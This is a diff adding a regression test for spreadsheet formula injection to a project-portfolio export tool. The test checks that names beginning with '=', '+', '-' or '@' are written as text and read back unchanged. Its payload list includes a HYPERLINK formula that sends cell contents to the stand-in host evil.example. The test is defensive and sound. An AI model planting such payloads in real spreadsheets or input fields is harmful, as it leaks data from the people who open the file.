@@ -133,3 +133,27 @@ def test_a_formula_without_a_value_is_one_error_at_its_field(book: tuple[Path, P
     (e,) = report.errors
     assert e.file.endswith("[projects]") and e.line == 2 and e.field == "budget"
     assert e.message == "formula has no computed value"
+
+
+INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(1)"]
+
+
+def test_names_that_look_like_formulas_are_stored_as_text_and_read_back(
+    book: tuple[Path, Path], tmp_path: Path
+) -> None:
+    """OWASP's CSV/formula injection: a name starting ``=`` was written as a live formula (it
+    ran when the PMO opened the downloaded workbook, and the workbook did not load back)."""
+    folder, _ = book
+    pf = load_portfolio(folder)
+    for i, text in enumerate(INJECTIONS):
+        pf.projects.loc[i % len(pf.projects), "name"] = text
+        pf.tasks.loc[i, "name"] = text
+    xlsx = write_workbook(pf, tmp_path / "injected.xlsx")
+    wb = open_book(xlsx)  # not data_only: formulas show as formulas
+    kinds = {c.data_type for ws in wb.worksheets for row in ws.iter_rows() for c in row}
+    assert "f" not in kinds
+    names = [c.value for c in wb["tasks"]["D"]]
+    assert names[1 : 1 + len(INJECTIONS)] == INJECTIONS  # the text, exactly
+    back = load_workbook(xlsx)
+    pd.testing.assert_frame_equal(back.tasks, pf.tasks, check_dtype=False)
+    pd.testing.assert_frame_equal(back.projects, pf.projects, check_dtype=False)
